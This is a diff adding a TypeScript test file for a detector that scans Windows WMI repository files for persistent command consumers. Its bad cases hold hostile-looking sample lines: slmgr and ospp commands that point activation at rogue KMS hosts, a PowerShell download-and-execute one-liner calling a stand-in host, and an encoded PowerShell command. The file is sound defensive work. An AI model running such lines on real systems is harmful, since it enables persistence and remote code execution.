@@ -1,0 +1,92 @@
+// Commands in the WMI repository, in both widths; definitions of classes and Microsoft's own consumers beside them.
+import { test } from 'uvu';
+import { wmiConsumer } from '../../../rules/activation/wmi-consumer.ts';
+import { windowsRuleTester } from '../../helpers/on-windows.ts';
+
+const PLACE = '/Windows/System32/wbem/Repository/OBJECTS.DATA';
+const parts = (...texts: (string | Uint8Array)[]) =>
+  Buffer.concat(
+    texts.flatMap((text) => [Buffer.from([0, 1, 2, 0]), typeof text === 'string' ? Buffer.from(`${text}\0`) : text, Buffer.from([0, 0])]),
+  );
+const wide = (text: string) => Buffer.from(text, 'utf16le');
+const CLASSES = parts(
+  'CommandLineEventConsumer',
+  'SoftwareLicensingService',
+  'SetKeyManagementServiceMachine',
+  'InstallProductKey',
+  'cmd.exe ',
+);
+const OWN = parts('BVTConsumer', 'cscript KernCap.vbs', 'SCM Event Log Consumer');
+const activate = (host: string) => `cscript.exe //b C:\\Windows\\System32\\slmgr.vbs /skms ${host}`;
+const at = (offset: number, file = PLACE) => ({ file, offset });
+const ENCODED = 'ZQBjAGgAbwAgAGgAZQBsAGwAbwAgAHcAbwByAGwAZAA=';
+
+windowsRuleTester(wmiConsumer, {
+  good: [
+    { name: 'no repository', image: { files: {} } },
+    { name: 'classes and the consumers of Windows', image: { files: { [PLACE]: Buffer.concat([CLASSES, OWN]) } } },
+    {
+      name: 'an allowed host',
+      policy: { kmsHosts: ['kms.corp.example'] },
+      image: { files: { [PLACE]: parts(activate('kms.corp.example')) } },
+    },
+    {
+      name: 'a command that only asks',
+      image: { files: { [PLACE]: parts('cscript.exe slmgr.vbs /dlv', 'powershell.exe -File C:\\Corp\\inventory.ps1') } },
+    },
+    { name: 'a text that names the switch', image: { files: { [PLACE]: parts('slmgr.vbs /skms activates at a host') } } },
+    { name: 'another file', image: { files: { '/Users/Public/OBJECTS.DATA': parts(activate('203.0.113.7')) } } },
+  ],
+  bad: [
+    {
+      name: 'a command line',
+      image: { files: { [PLACE]: parts(activate('203.0.113.7')) } },
+      findings: [{ messageId: 'activates', at: at(4), says: /203\.0\.113\.7/ }],
+    },
+    {
+      name: 'another host than the allowed one, two bytes a letter',
+      policy: { kmsHosts: ['kms.corp.example'] },
+      image: { files: { [PLACE]: parts(wide(activate('kms.evil.example'))) } },
+      findings: [{ messageId: 'activates', at: at(4), says: /kms\.evil\.example/ }],
+    },
+    {
+      name: 'at an odd place',
+      image: { files: { [PLACE]: Buffer.concat([Buffer.from([1]), parts(wide(activate('127.0.0.2')))]) } },
+      findings: [{ messageId: 'activates', at: at(5) }],
+    },
+    {
+      name: 'a script',
+      image: {
+        files: {
+          [PLACE]: parts(
+            'Set s = GetObject("winmgmts:").ExecQuery("select * from SoftwareLicensingService")\ns.SetKeyManagementServiceMachine("kms.evil.example")',
+          ),
+        },
+      },
+      findings: [{ messageId: 'activates', at: at(4), says: /kms\.evil\.example/ }],
+    },
+    {
+      name: 'Office',
+      image: { files: { [PLACE]: parts('cmd.exe /c cscript ospp.vbs /sethst:kms.evil.example') } },
+      findings: [{ messageId: 'activates', at: at(4) }],
+    },
+    {
+      name: 'something fetched',
+      image: { files: { [PLACE]: parts('powershell.exe -nop -c "irm https://x.example/a | iex"') } },
+      findings: [{ messageId: 'fetches', at: at(4) }],
+    },
+    {
+      name: 'something encoded',
+      image: { files: { [PLACE]: parts(`powershell.exe -w 1 -enc ${ENCODED}`) } },
+      findings: [{ messageId: 'encoded', at: at(4), severity: 'warning' }],
+    },
+    {
+      name: 'in the older folder',
+      image: { files: { '/Windows/System32/wbem/Repository/FS/OBJECTS.DATA': parts(activate('203.0.113.7')) } },
+      findings: [{ messageId: 'activates', at: at(4, '/Windows/System32/wbem/Repository/FS/OBJECTS.DATA') }],
+    },
+    { name: 'unreadable', image: { files: { [PLACE]: { content: 'x', unreadable: 'is damaged' } } }, findings: [], unable: 'is damaged' },
+  ],
+});
+
+test.run();
